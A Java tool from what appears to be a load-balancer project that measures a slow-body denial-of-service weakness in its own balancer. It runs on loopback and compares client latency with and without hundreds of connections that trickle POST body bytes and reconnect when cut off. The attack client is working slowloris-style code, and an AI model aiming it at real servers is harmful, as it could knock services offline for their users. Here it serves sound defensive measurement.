package io.unstick.balancer.tools;

import io.unstick.balancer.support.TestBackend;

import java.io.IOException;
import java.net.InetSocketAddress;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.ByteBuffer;
import java.nio.channels.SelectionKey;
import java.nio.channels.Selector;
import java.nio.channels.SocketChannel;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;

/**
 * Measures the slow-body attack of issue 14 (finding 2) for the note, not as a test: a balancer jar over three
 * loopback backends, a normal client alone (baseline), then the same client while N connections each send one
 * body byte every few seconds (the attack). Bounded: N connections, each phase a fixed time; it stops itself and
 * the balancer process it started.
 *
 * <pre>
 * java -cp "$CP" io.unstick.balancer.tools.SlowBodyAttack balancer/target/unstick-balancer.jar [connections] [seconds] [byteEverySeconds]
 * </pre>
 * Defaults: 400 connections, 30 s per phase, a byte every 5 s. Attack connections that are cut off reconnect at
 * once, so the attack keeps its N connections. Loopback only.
 */
public final class SlowBodyAttack {

    private static final Pattern STARTED = Pattern.compile("proxy on /127.0.0.1:(\\d+)");
    private static final int BODY_BYTES = 1000;

    private SlowBodyAttack() {
    }

    public static void main(String[] args) throws Exception {
        Path jar = Path.of(args.length > 0 ? args[0] : "balancer/target/unstick-balancer.jar");
        int connections = args.length > 1 ? Integer.parseInt(args[1]) : 400;
        int seconds = args.length > 2 ? Integer.parseInt(args[2]) : 30;
        int byteEvery = args.length > 3 ? Integer.parseInt(args[3]) : 5;
        List<TestBackend> backends = List.of(TestBackend.start("node1"), TestBackend.start("node2"), TestBackend.start("node3"));
        Path log = Files.createTempFile("unstick-balancer-attack", ".log");
        ProcessBuilder pb = new ProcessBuilder(ProcessHandle.current().info().command().orElse("java"), "-Xmx256m",
                "-jar", jar.toString());
        pb.environment().keySet().removeIf(k -> k.startsWith("UNSTICK_"));
        pb.environment().put("UNSTICK_BIND_ADDRESS", "127.0.0.1");
        pb.environment().put("UNSTICK_PORT", "0");
        pb.environment().put("UNSTICK_ADMIN_PORT", "0");
        pb.environment().put("UNSTICK_MODE", "shared");
        pb.environment().put("UNSTICK_BACKENDS", String.join(",", backends.stream().map(TestBackend::spec).toList()));
        Process balancer = pb.redirectErrorStream(true).redirectOutput(log.toFile()).start();
        try {
            int port = awaitPort(log);
            System.out.printf("balancer %s on port %d, %d backends; %d s per phase%n", jar, port, backends.size(), seconds);
            Result baseline = new NormalClient(port).run(seconds);
            System.out.println("baseline: " + baseline);
            Attack attack = new Attack(port, connections, byteEvery);
            Thread attacker = new Thread(attack, "attack");
            attacker.start();
            Thread.sleep(byteEvery * 1000L); // let every attack connection start its body
            Result underAttack = new NormalClient(port).run(seconds);
            attack.stop();
            attacker.join(10_000);
            System.out.println("under attack: " + underAttack);
            System.out.println("attack: " + attack.summary());
            String output = Files.readString(log);
            System.out.printf("balancer log: %d lines, %d stack frames, %d NullPointerException, %d '504', %d '408'/refusal lines%n",
                    output.lines().count(), output.lines().filter(l -> l.startsWith("\tat ")).count(),
                    count(output, "NullPointerException"), count(output, " 504 "), count(output, "with 408"));
        } finally {
            balancer.destroy();
            balancer.waitFor(10, TimeUnit.SECONDS);
            backends.forEach(TestBackend::close);
            Files.deleteIfExists(log);
        }
    }

    private static long count(String text, String what) {
        return text.split(Pattern.quote(what), -1).length - 1;
    }

    private static int awaitPort(Path log) throws Exception {
        long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(30);
        while (System.nanoTime() < end) {
            Matcher m = STARTED.matcher(Files.readString(log));
            if (m.find()) {
                return Integer.parseInt(m.group(1));
            }
            Thread.sleep(50);
        }
        throw new IllegalStateException("the balancer did not start: " + Files.readString(log));
    }

    /** What a normal client saw. */
    record Result(int requests, int errors, Map<String, Integer> errorKinds, long p50Micros, long p99Micros, long maxMicros) {
        @Override
        public String toString() {
            return String.format("%d requests, %d errors %s, p50 %.1f ms, p99 %.1f ms, max %.1f ms", requests, errors,
                    errorKinds, p50Micros / 1000.0, p99Micros / 1000.0, maxMicros / 1000.0);
        }
    }

    /** One request at a time, at most 100 a second: GET / and POST /consume (a form-sized body) in turn, 10 s timeout. */
    private static final class NormalClient {
        private final HttpClient http = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
                .connectTimeout(Duration.ofSeconds(10)).build();
        private final int port;

        NormalClient(int port) {
            this.port = port;
        }

        Result run(int seconds) throws InterruptedException {
            long end = System.nanoTime() + TimeUnit.SECONDS.toNanos(seconds);
            List<Long> latencies = new ArrayList<>();
            Map<String, Integer> errors = new TreeMap<>();
            for (int i = 0; System.nanoTime() < end; i++) {
                long started = System.nanoTime();
                HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + (i % 2 == 0 ? "/" : "/consume")))
                        .timeout(Duration.ofSeconds(10));
                if (i % 2 == 1) {
                    request.POST(HttpRequest.BodyPublishers.ofString("x".repeat(200)));
                }
                try {
                    HttpResponse<Void> r = http.send(request.build(), HttpResponse.BodyHandlers.discarding());
                    if (r.statusCode() != 200) {
                        errors.merge(Integer.toString(r.statusCode()), 1, Integer::sum);
                    }
                } catch (IOException e) {
                    errors.merge(e.getClass().getSimpleName(), 1, Integer::sum);
                }
                long took = System.nanoTime() - started;
                latencies.add(took / 1000);
                long pause = TimeUnit.MILLISECONDS.toNanos(10) - took;
                if (pause > 0) {
                    TimeUnit.NANOSECONDS.sleep(pause);
                }
            }
            long[] sorted = latencies.stream().mapToLong(Long::longValue).sorted().toArray();
            int errorCount = errors.values().stream().mapToInt(Integer::intValue).sum();
            return new Result(sorted.length, errorCount, errors, percentile(sorted, 0.50), percentile(sorted, 0.99),
                    sorted.length == 0 ? 0 : sorted[sorted.length - 1]);
        }

        private static long percentile(long[] sorted, double p) {
            return sorted.length == 0 ? 0 : sorted[Math.min(sorted.length - 1, (int) Math.ceil(p * sorted.length) - 1)];
        }
    }

    /**
     * N non-blocking connections on one thread: each sends a POST head declaring a 1000-byte body, then one byte of
     * it every {@code byteEvery} seconds; what comes back is read and its status counted; a closed connection is
     * replaced at once.
     */
    private static final class Attack implements Runnable {
        private final InetSocketAddress target;
        private final int connections;
        private final long byteEveryNanos;
        private final Map<String, Integer> answers = new TreeMap<>();
        private volatile boolean running = true;
        private int opened;
        private int closedByServer;

        Attack(int port, int connections, int byteEverySeconds) {
            this.target = new InetSocketAddress("127.0.0.1", port);
            this.connections = connections;
            this.byteEveryNanos = TimeUnit.SECONDS.toNanos(byteEverySeconds);
        }

        void stop() {
            running = false;
        }

        synchronized String summary() {
            return String.format("%d connections opened in all (%d at a time), %d closed by the balancer, answers %s",
                    opened, connections, closedByServer, answers);
        }

        @Override
        public void run() {
            try (Selector selector = Selector.open()) {
                long start = System.nanoTime();
                for (int i = 0; i < connections; i++) {
                    // spread the first bytes over one interval, as independent clients would
                    open(selector, start + byteEveryNanos * i / connections);
                }
                ByteBuffer read = ByteBuffer.allocate(4096);
                while (running) {
                    selector.select(20);
                    long now = System.nanoTime();
                    for (SelectionKey key : new ArrayList<>(selector.keys())) {
                        Slow slow = (Slow) key.attachment();
                        SocketChannel channel = (SocketChannel) key.channel();
                        try {
                            if (key.isValid() && key.isReadable()) {
                                read.clear();
                                int n = channel.read(read);
                                if (n > 0) {
                                    slow.answer.append(new String(read.array(), 0, n, StandardCharsets.ISO_8859_1));
                                }
                                if (n < 0) {
                                    replace(selector, key, slow);
                                    continue;
                                }
                            }
                            if (now >= slow.next && slow.sent < BODY_BYTES) {
                                channel.write(ByteBuffer.wrap(new byte[]{'x'}));
                                slow.sent++;
                                slow.next = now + byteEveryNanos;
                            }
                        } catch (IOException e) {
                            replace(selector, key, slow);
                        }
                    }
                }
                for (SelectionKey key : selector.keys()) {
                    key.channel().close();
                }
            } catch (IOException e) {
                throw new IllegalStateException("the attack failed: " + e, e);
            }
        }

        private synchronized void replace(Selector selector, SelectionKey key, Slow slow) throws IOException {
            closedByServer++;
            String status = slow.answer.length() >= 12 && slow.answer.indexOf("HTTP/1.") == 0 ? slow.answer.substring(9, 12) : "none";
            answers.merge(status, 1, Integer::sum);
            key.cancel();
            key.channel().close();
            if (running) {
                open(selector, System.nanoTime());
            }
        }

        private synchronized void open(Selector selector, long firstByteAt) throws IOException {
            SocketChannel channel = SocketChannel.open(target);
            channel.configureBlocking(false);
            channel.write(ByteBuffer.wrap(("POST /consume HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\n"
                    + "Content-Length: " + BODY_BYTES + "\r\n\r\n").getBytes(StandardCharsets.ISO_8859_1)));
            Slow slow = new Slow();
            slow.next = firstByteAt;
            channel.register(selector, SelectionKey.OP_READ, slow);
            opened++;
        }

        /** One attack connection's progress. */
        private static final class Slow {
            final StringBuilder answer = new StringBuilder();
            long next;
            int sent;
        }
    }
}
